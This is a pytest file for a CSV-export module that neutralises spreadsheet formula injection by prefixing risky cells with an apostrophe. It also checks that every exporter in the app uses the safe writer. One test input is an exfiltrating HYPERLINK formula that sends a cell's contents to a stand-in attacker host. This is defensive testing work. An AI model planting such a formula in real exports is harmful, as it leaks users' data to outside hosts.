"""servicehub.csvsafe: every CSV export is formula-neutral; this also proves no export bypasses it."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from servicehub.csvsafe import FORMULA_TRIGGERS, csv_cell, csv_unescape, csv_writer

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("https://evil.example/?"&A2,"open")', "+86 21 5555 0000", "-1+2", "@SUM(A1:A9)", "\t=1", "\r=1"],
)
def test_risky_text_gets_a_leading_apostrophe_and_reads_back(text):
    assert csv_cell(text) == "'" + text
    assert csv_unescape(csv_cell(text)) == text


@pytest.mark.parametrize("value", ["王*明", "SC-SH-001", "", "a=b", " =1"])
def test_plain_text_is_unchanged(value):
    assert csv_cell(value) == value and csv_unescape(value) == value


def test_numbers_stay_numbers_and_none_is_blank():
    assert csv_cell(-3) == -3 and csv_cell(Decimal("-1.50")) == Decimal("-1.50") and csv_cell(None) == ""


@pytest.mark.parametrize("text", ["'=x", "''a", "'a", "'"])
def test_apostrophes_round_trip(text):
    assert csv_unescape(csv_cell(text)) == text


def test_writer_quotes_every_risky_cell():
    buf = io.StringIO()
    w = csv_writer(buf)
    w.writerow(["=1+1", 5, None, "ok"])
    w.writerows([["@x"]])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["'=1+1", "5", "", "ok"], ["'@x"]]
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def test_no_export_writes_csv_without_the_safe_writer():
    """Every ``csv.writer``/``DictWriter`` in the apps is the safe one (bench/ writes COPY data, not exports)."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if rel.startswith((".venv/", "bench/", "tests/", "staticfiles/")) or rel == "servicehub/csvsafe.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(rel)
    assert offenders == []
